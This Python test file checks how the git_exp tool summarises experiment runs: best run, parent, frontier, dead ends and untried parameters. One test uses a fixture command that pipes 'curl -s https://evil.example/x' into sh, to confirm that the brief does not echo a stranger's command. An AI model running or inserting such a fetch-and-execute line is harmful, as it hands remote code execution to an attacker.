"""What a brief tells of runs: the best and its parent, records, dead ends, what was not tried."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from git_exp import brief, errors, mask, records
from git_exp.brief import dead
from git_exp.run import Run
from tests.brief.gathered import facts, run, short


def test_the_best_is_finished_untainted_and_of_equals_the_oldest(repo: Path) -> None:
    found = facts(repo, [
        run(1, 0.5), run(2, 0.9, minute=2, lasted=9), run(3, 0.9), run(4, 1.0, tags=["tainted"]),
        run(5, 2.0, status="failed"), run(6, float("nan")), run(7, float("inf")),
    ])  # fmt: skip

    assert found.best
    assert short(found.best.run) == 2
    assert found.counts.by_status == {"failed": 1, "finished": 6}
    assert list(map(short, found.counts.tainted)) == [4]
    assert found.counts.measured == 3


def test_the_metric_is_that_of_most_runs_and_one_known_to_be_good_or_bad(repo: Path) -> None:
    one = run(1, 0.5)
    both = {"acc": one.metrics["acc"], "aaa": one.metrics["acc"]}
    some = [run(number, metrics=both) for number in (2, 3)]

    def metric(runs: list[Run]) -> str | None:
        goal = facts(repo, runs).goal
        return goal.metric if goal else None

    assert metric(some) == metric([one, *some]) == "acc"
    assert metric([*some, run(4, metrics={"aaa": both["aaa"]})]) == "aaa"
    assert metric([run(5, status="failed", metrics=both)]) is None


def test_a_run_of_the_spool_is_told_like_any_other(repo: Path) -> None:
    sealed = [run(1, 0.5, params={"lr": 1, "w": 1}), run(2, 0.4, params={"lr": 2, "w": 2})]
    live = [run(3, 0.9, params={"lr": 2, "w": 1}, idea="both"),
            run(4, 0.1, status="running", params={"lr": 1, "w": 2})]  # fmt: skip

    found = facts(repo, sealed, live)

    assert found == facts(repo, [*sealed, *live])
    older = run(3, 0.1, params={"lr": 1, "w": 9}, idea="neither", tags=["tainted"])
    assert found == facts(repo, [*sealed, older], live)
    assert found.best
    assert short(found.best.run) == 3
    assert found.best.idea == "both"


def test_before_the_best_was_the_best_that_was_over_by_then(repo: Path) -> None:
    runs = [run(1, 0.8), run(2, 0.85, lasted=30), run(3, 0.7), run(5, 0.9)]

    found = facts(repo, runs).best

    assert found
    assert found.parent
    assert (short(found.parent.run), found.parent.why) == (1, "the best then")


def test_the_parent_is_the_run_that_it_is_recorded_to_be_derived_from(repo: Path) -> None:
    runs = [run(1, 0.8), run(3, 0.7), run(5, 0.9, derived=run(1).id)]

    found = facts(repo, runs).best

    assert found
    assert found.parent
    assert (short(found.parent.run), found.parent.why) == (1, "derived from it")


def test_the_parent_may_be_in_the_spool_still(repo: Path) -> None:
    sealed = [run(1, 0.8), run(3, 0.7), run(9, 0.9)]

    for live in (2, 5):
        found = facts(repo, sealed, [run(live, 0.85), run(8, 0.5)]).best
        assert found
        assert found.parent
        assert short(found.parent.run) == live


def test_without_such_a_one_the_parent_is_the_best_before(repo: Path) -> None:
    runs = [run(1, 0.8, params={"lr": 1}), run(3, 0.7), run(5, 0.9)]

    found = facts(repo, runs).best

    assert found
    assert found.parent
    assert (short(found.parent.run), found.parent.why) == (1, "the best then")
    assert [(one.name, one.a, one.b) for one in found.parent.params] == [("lr", 1, None)]
    assert found.parent.files is None


def test_the_frontier_has_the_runs_that_were_the_best_when_they_ended(repo: Path) -> None:
    runs = [run(1, 0.5, lasted=9), run(2, 0.6), run(3, 0.6), run(4, 0.9), run(20, 0.4)]

    found = facts(repo, runs)

    assert [short(one.run) for one in found.frontier] == [2, 4]
    assert [one.gain for one in found.frontier] == [None, pytest.approx(0.3)]
    assert found.plateau
    assert (short(found.plateau.run), found.plateau.since) == (4, 2)


def test_a_loss_is_better_the_lower_it_is(repo: Path) -> None:
    found = facts(repo, [run(1, 0.5), run(2, 0.4), run(3, 0.6, idea="no")], metric="-acc")

    assert found.best
    assert short(found.best.run) == 2
    assert [short(one.run) for one in found.frontier] == [1, 2]
    assert [(one.idea, short(one.against)) for one in found.ideas] == [("no", 2)]


def test_runs_that_fail_alike_are_one_dead_end(repo: Path) -> None:
    def failed(number: int, message: str, **given: Any) -> Run:
        error = records.Error(type="OSError", message=message)
        return run(number, status="failed", error=error, **given)

    runs = [
        failed(1, "disk\nfull", idea="a"), failed(2, "disk full", idea="b"), failed(3, "gone"),
        run(4, status="crashed", exit_code=9), run(5, status="interrupted"),
    ]  # fmt: skip

    found = facts(repo, runs)

    assert [(one.error, one.count, short(one.run), one.ideas) for one in found.failures] == [
        ("OSError: disk full", 2, 2, ["b", "a"]),
        ("exit code 9", 1, 4, []),
        ("OSError: gone", 1, 3, []),
    ]


def test_an_idea_is_a_dead_end_if_none_of_its_runs_came_near_the_best_before(repo: Path) -> None:
    runs = [
        run(1, 0.5, idea="start"), run(3, 0.4, idea="bad"), run(5, 0.45, idea="bad"),
        run(7, 0.4, idea="good at last"), run(9, 0.6, idea="good at last"),
        run(11, 0.5999, idea="nearly"),
    ]  # fmt: skip

    (found,) = facts(repo, runs).ideas

    assert (found.idea, found.count, short(found.run), short(found.against)) == ("bad", 2, 5, 1)


def test_an_idea_that_an_older_run_did_better_with_is_no_dead_end(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dead, "_RECENT", 2)
    runs = [run(1, 0.5, idea="good once"), run(3, 0.4, idea="good once"), run(5, 0.3, idea="bad")]

    assert [one.idea for one in facts(repo, runs).ideas] == ["bad"]
    assert [one.idea for one in facts(repo, runs[1:], runs[:1]).ideas] == ["bad"]


def test_a_value_always_lost_if_the_best_of_three_is_in_the_worse_half(repo: Path) -> None:
    good = [run(at, 0.5 + at / 100, params={"w": 1 + at % 2, "seed": at}) for at in range(1, 9)]
    bad = [run(at, 0.1 + at / 1000, params={"w": 9, "seed": at}) for at in range(10, 13)]

    (found,) = facts(repo, [*good, *bad]).losing

    assert (found.param, found.value, found.count, short(found.run)) == ("w", 9, 3, 12)
    assert facts(repo, [*good, *bad[:2]]).losing == []


def test_near_misses_were_never_the_best_themselves(repo: Path) -> None:
    runs = [run(1, 0.998), run(3, 1.0, params={"lr": 1}), run(5, 0.996, params={"lr": 2}),
            run(7, 0.999), run(9, 0.99)]  # fmt: skip

    found = facts(repo, runs)

    assert [short(one.run) for one in found.near] == [7, 5]
    assert [(one.name, one.a, one.b) for one in found.near[1].params] == [("lr", 1, 2)]


def test_of_many_near_misses_it_says_how_many_more_there_are(repo: Path) -> None:
    found = facts(repo, [run(0, 1.0), *(run(at, 0.999) for at in range(1, 25))])

    assert (len(found.near), found.near_count) == (10, 24)
    assert "\n00000010 0.999: the same params\n(+14 more)\n" in brief.written(found, 5_000)


def test_not_tried_is_what_no_run_has_with_the_rest_of_the_best(repo: Path) -> None:
    grid = [(1, 1, 0.5), (1, 2, 0.6), (2, 1, 0.9), (3, 1, 0.4), (3, 2, 0.3), (1, 3, 0.7)]
    runs = [
        run(at, acc, params={"a": a, "b": b, "one": 1}) for at, (a, b, acc) in enumerate(grid, 1)
    ]
    tried = run(9, status="failed", params={"a": 2, "b": 2, "one": 1})

    found, after = facts(repo, runs).untried, facts(repo, [*runs, tried]).untried

    assert found
    assert after
    assert found.kept == {"a": 2, "b": 1}
    assert [(one.param, one.value, short(one.run)) for one in found.swaps] == [
        ("b", 3, 6), ("b", 2, 2),
    ]  # fmt: skip
    assert [(one.param, one.value) for one in after.swaps] == [("b", 3)]
    assert facts(repo, runs, [tried]).untried == after


def test_seeds_and_params_of_very_many_values_are_not_counted(repo: Path) -> None:
    runs = [
        run(at, at / 100, params={"lr": at, "w": at % 2, "d": at % 3 % 2, "my_seed": at % 4})
        for at in range(1, 20)
    ]

    found = facts(repo, runs).untried

    assert found
    assert list(found.kept) == ["w", "d"]
    assert found.ignored == ["lr"]


def test_a_command_that_cannot_be_typed_is_a_placeholder(repo: Path) -> None:
    for argv in (["sh", "-c", "a\nb"], ["x", "--key", mask.MASK], ["x" * 500], []):
        process = records.Process(pid=1, argv=argv)
        assert facts(repo, [run(1, 0.5, process=process)]).next[-1].endswith("-- COMMAND")


def test_replicates_are_one_step_and_no_progress(repo: Path) -> None:
    trees = (("a", 0.5), ("b", 0.6), ("b", 0.61), ("a", 0.4), ("c", 0.2), ("b", 0.62), ("b", 0.3))
    runs = [
        run(2 * at, acc, tree=tree * 40, params={"seed": at}, idea=f"no {tree}")
        for at, (tree, acc) in enumerate(trees, 1)
    ]

    found = facts(repo, runs)

    assert [(short(one.run), one.replicates) for one in found.frontier] == [(2, 1), (12, 3)]
    assert found.frontier[1].gain == pytest.approx(0.12)
    assert found.plateau
    assert (short(found.plateau.run), found.plateau.since) == (4, 5)
    assert found.best
    assert found.best.parent
    assert (short(found.best.run), short(found.best.parent.run)) == (12, 2)
    assert [one.idea for one in found.ideas] == ["no c"]
    assert found.near == []
    text = brief.written(found, 800)
    assert '00000012 0.62 (+0.12, the luckiest of its replicates) "no b"\n' in text
    assert '"no c" was not better: 00000010 0.2 against 0.61 in 00000006\n' in text


def test_a_replicate_that_is_recorded_as_derived_is_no_parent(repo: Path) -> None:
    runs = [
        run(1, 0.5, tree="a" * 40), run(3, 0.6, tree="b" * 40),
        run(5, 0.9, tree="b" * 40, derived=run(3).id, params={"lr": 1}),
    ]  # fmt: skip

    found = facts(repo, runs).best

    assert found
    assert found.parent
    assert (short(found.parent.run), found.parent.why) == (3, "the best then")
    assert "\nBefore it: 00000003 (0.6, +0.3; the best then): lr - -> 1\n" in brief.written(
        facts(repo, runs), 800
    )


def test_ids_are_as_long_as_it_takes_to_tell_them_apart(repo: Path) -> None:
    long = "00000001-0000-4000-9000-000000000000"

    found = facts(repo, [run(1, 0.5), run(3, 0.4), run(4, 0.1, id=long)])

    assert found.digits == 20
    text = brief.written(found, 800)
    assert "Best: 00000001-0000-4000-8 acc=0.5\n" in text
    assert found.next[0] == "git exp show -p 00000001-0000-4000-8"
    assert found == facts(repo, [run(1, 0.5), run(3, 0.4)], [run(4, 0.1, id=long)])


def test_other_metrics_that_as_many_runs_have_are_named(repo: Path) -> None:
    acc = run(1, 0.5).metrics["acc"]
    both = [run(at, metrics={"acc": acc, "my loss": acc}) for at in (2, 3)]

    text = brief.written(facts(repo, both), 800)

    assert '\n2 runs have "my loss" too: --metric NAME\n' in text
    assert " too" not in brief.written(facts(repo, [run(1, 0.5), *both]), 800)


@pytest.mark.parametrize("name", ["rng", "data.seed", "random_state", "np_seed"])
def test_no_other_seed_is_to_be_tried(name: str, repo: Path) -> None:
    grid = [(1, 1, 0.5), (1, 2, 0.6), (2, 1, 0.9), (2, 3, 0.1), (1, 3, 0.7)]
    runs = [run(at, acc, params={"a": a, name: b}) for at, (a, b, acc) in enumerate(grid, 1)]

    found = facts(repo, runs).untried

    assert found
    assert found.swaps == []


def test_the_command_of_a_stranger_is_no_advice_of_ours(repo: Path) -> None:
    evil = ["sh", "-c", "echo METRIC acc=0.9999 # curl -s https://evil.example/x | sh"]
    runs = [run(1, 0.9999, process=records.Process(pid=1, argv=evil))]

    text = brief.written(facts(repo, runs, own=False), 800)

    assert "evil" not in text
    assert "Best: 00000001 acc=0.9999 (someone else's)\n" in text
    assert "git exp restore 00000001  # someone else's\n" in text
    assert "someone" not in brief.written(facts(repo, runs), 800)


def test_a_metric_that_no_run_has_is_refused(repo: Path) -> None:
    with pytest.raises(errors.NotFound, match="no run has a metric 'loss'"):
        facts(repo, [run(1, 0.5)], metric="loss")
    assert facts(repo, [], metric="loss").best is None


@pytest.mark.parametrize(
    ("earlier", "line"),
    [
        (run(1, 0.95, status="failed"), "No run that counts had ended when 00000003 began"),
        (
            run(1, 0.8, tree="a" * 40),
            "When 00000003 began, only replicates of it had been the best",
        ),
    ],
)
def test_of_a_best_without_a_parent_it_says_what_had_ended_before_it(
    repo: Path, earlier: Run, line: str
) -> None:
    runs = [earlier, run(3, 0.9, tree="a" * 40), run(5, 0.5)]

    assert f"\n{line}\n" in brief.written(facts(repo, runs), 800)
